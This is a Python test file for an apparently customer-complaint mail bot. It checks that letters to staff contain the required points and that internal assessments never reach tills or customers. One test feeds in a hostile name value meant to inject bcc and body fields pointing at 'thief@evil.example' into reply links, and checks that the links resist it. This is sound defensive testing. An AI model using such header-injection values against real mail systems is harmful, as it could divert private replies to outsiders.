"""Letters to staff: what each of them must say, and what never leaves the house with one."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest

from mailbot.letters import templates
from mailbot.mail import hypertext
from tests import letter_cases as paper
from tests import tapping
from tests.letter_cases import Sample
from tests.tapping import Program

RULES = paper.rules()
OUTSIDE = frozenset(("till", "author", "customer"))  # to whom a letter can go that are not of the desk itself
STAFF = [s for s in paper.samples() if "customer" not in RULES.letter(s.code, "en").audience]
BY_NAME = {sample.name: sample for sample in STAFF}
ASKS = sorted({s.code for s in STAFF if RULES.letter(s.code, "en").answers})


def flat(name: str) -> str:
    """The text part in one line."""
    return " ".join(paper.written(BY_NAME[name]).text.split())


def in_order(said: str, *points: str) -> None:
    """Each point stands in the letter, after the one before."""
    at = 0
    for point in points:
        found = said.find(point, at)
        assert found >= 0, f"{point!r} does not come after {said[:at][-60:]!r}"
        at = found + len(point)


# ---- what stays in the house --------------------------------------------------------------------------------


@pytest.mark.parametrize("sample", [pytest.param(s, id=s.name) for s in STAFF])
def test_what_stays_in_the_house(sample: Sample) -> None:
    """A letter that a till can get holds no note of staff, no class of client, no assessment, no other customer."""
    letter = paper.written(sample)
    everything = f"{letter.subject}\n{letter.text}\n{hypertext.to_text(letter.html)}"
    if OUTSIDE.intersection(RULES.letter(sample.code, "en").audience):
        assert "inside:" not in everything
        assert not re.search(r"\b(?:good|average|bad) client\b", everything.replace(_EXAMPLE, ""))
        assert not re.search(r"unclear error|BLANC-(?:2ZXCVB5|5LMNOP3|6YHNJU4)", everything)


_EXAMPLE = "clear error, good client"  # in the list of what can be written, which a till does not get


def test_a_till_is_not_told_how_an_assessment_is_written() -> None:
    """The words of an assessment are not in the lists that a till gets."""
    for name in ("help", "not-understood"):
        assert "client" not in flat(name)
        assert _EXAMPLE in flat(f"{name}.va")


def test_private_placeholders_are_refused_in_letters_that_leave() -> None:
    """No edit of a template makes a letter to a till tell what stays in the house."""
    card = RULES.letter("status", "en")
    for name in ("{{ assessment.client }}", "{% for n in notes %}{{ n.words }}{% endfor %}", "{{ proposal }}"):
        letters = {**RULES.letters, "status": {"en": replace(card, body=f"{card.body}\n\n{name}\n")}}
        (problem,) = templates.problems(replace(RULES, letters=letters))
        assert "stays in the house" in problem.what


# ---- what each of them says ---------------------------------------------------------------------------------


def test_the_assessment_has_all_that_it_takes() -> None:
    """Question, nine answers, form, photos, notes, earlier and similar cases, what the words mean, what happens."""
    said = flat("ask-assessment")
    in_order(said, "What happened, and who is the client?", "- clear error, good client", "- manufacturer")
    in_order(
        said, "cause:", "to customer:", "Nothing else of what you write reaches the customer", "Garment: silk dress",
        "photos", "the sleeve was caught by a zip", "Earlier complaints", "inside: wool coat", "voucher",
        "Similar cases", "clear error, £100 offered, accepted", "unclear error, £30 offered, declined",
        "not our error, explained", "What the words mean", "good client: very regular", "average client: regular",
        "bad client: a first time", "promised an answer by", "If nobody answers",
    )  # fmt: skip
    assert "Earlier complaints of this customer: none." in flat("ask-assessment.sparse")


def test_both_opinions_are_shown() -> None:
    """Where operations and care differ, whoever decides sees both."""
    both = "clear error, good client (operations), unclear error, bad client (care)"
    assert both in flat("ask-assessment.differ")
    assert both in flat("ask-approval")


def test_an_approval_shows_the_exact_letter() -> None:
    """The question with the amount, the answers, the letter as it would go out, and what happens if nobody answers."""
    said = flat("ask-approval")
    in_order(
        said, "Shall we offer Anna Smith £100", "- approve 100 (Approve £100)", "- change", "- reject",
        "Why you are asked: operations propose, care decides", "exactly as it would go out", "Dear Anna,",
        "£100", "If nobody answers",
    )  # fmt: skip
    assert "It needs an amount from you" in flat("ask-approval.no-amount")
    in_order(flat("ask-approval.explained"), "Shall we send Anna Smith the explanation", "It offers nothing")


def test_a_serious_case_is_a_call_first() -> None:
    """Whom to call, on which number, what they wrote, and that nothing leaves by itself before `go on`."""
    letter = paper.written(BY_NAME["call.serious"])
    assert letter.subject.startswith("Call first: Anna Smith")
    in_order(
        flat("call.serious"),
        "Please call Anna Smith on 020 7946 0999",
        "- go on",
        "I was burnt",
        "Until somebody says go on",
    )


CALLS = {
    "call": "Please call Marylebone on +44 20 7946 0011 and ask: \"Is the garment of Anna Smith with you?\"",
    "call.in-store": "Please call Marylebone on +44 20 7946 0011 and ask: \"Is Anna Smith happy",
    "call.assessing": "Please call Lucy on +44 20 7946 0002 and ask: \"What happened",
    "call.undelivered": "Please call Anna Smith on 020 7946 0999: our letter did not arrive.",
    "call.awaiting-payment": "Please find out why Anna Smith has not been paid",
}  # fmt: skip


@pytest.mark.parametrize("name", CALLS)
def test_a_call_is_ready_to_make(name: str) -> None:
    """Whom to call, on which number, and the question in words."""
    assert flat(name).startswith(CALLS[name])


def test_what_people_of_a_store_know_is_asked_for() -> None:
    """The three questions to staff stand in the letters that they answer anyway."""
    for name in ("ask-garments", "ask-command"):
        in_order(
            flat(name), "Words below your answer", "how it began", "how the customer sounded", "why the first answer"
        )


@pytest.mark.parametrize("code", ["help", "not-understood"])
def test_everything_that_can_be_written_is_told(code: str) -> None:
    """Who asks for help, or was not understood, gets every command of rules/commands.yaml that they may use."""
    for name, role in ((code, "till"), (f"{code}.va", "care")):
        listed = re.findall(r"(?m)^- ([a-z ]+?)(?=[:,(]| and | above |$)", paper.written(BY_NAME[name]).text)
        told = {word.strip() for each in listed for word in each.split(" and ")}
        told |= set(re.findall(r"(?m)^- [a-z]+ and ([a-z]+):", paper.written(BY_NAME[name]).text))
        wanted = {command.name for command in RULES.commands if role in command.who}
        assert wanted <= told
        kept = {command.name for command in RULES.commands if not {"till", role}.intersection(command.who)}
        assert not kept & told


@pytest.mark.parametrize("code", [code for code in ASKS if code not in ("alert", "ask-relay", "ask-was-it-you")])
def test_what_happens_if_nobody_answers(code: str) -> None:
    """A letter that asks ends with what happens if it is not answered."""
    last = " ".join(flat(code).split()[-60:])
    assert re.search(r"If nobody answers|Until|If you do nothing", last)


# ---- the buttons of whole letters ---------------------------------------------------------------------------


@pytest.mark.parametrize("program", tapping.PROGRAMS, ids=lambda program: program.__name__)
@pytest.mark.parametrize("code", ASKS)
def test_no_name_or_garment_adds_a_receiver(program: Program, code: str) -> None:
    """What a customer calls themselves or their garment never becomes a field of a colleague's reply."""
    bad = "coat&bcc=thief@evil.example&body=approve 900?cc=a#b%0D%0ABcc: x \"' <b> + ü 中 🧥"
    sample = replace(BY_NAME[code], values={**paper.VALUES, "name": f"Anna {bad}", "garment": bad})
    letter = paper.written(sample)
    for link in tapping.of(letter.html).hrefs:
        reply = program(link)
        assert [name for name, _ in reply.fields] == ["subject", "body"]
        assert reply.subject == f"Re: {letter.subject}"
        assert "evil" not in reply.body
        assert reply.to == paper.IDENTITY.address
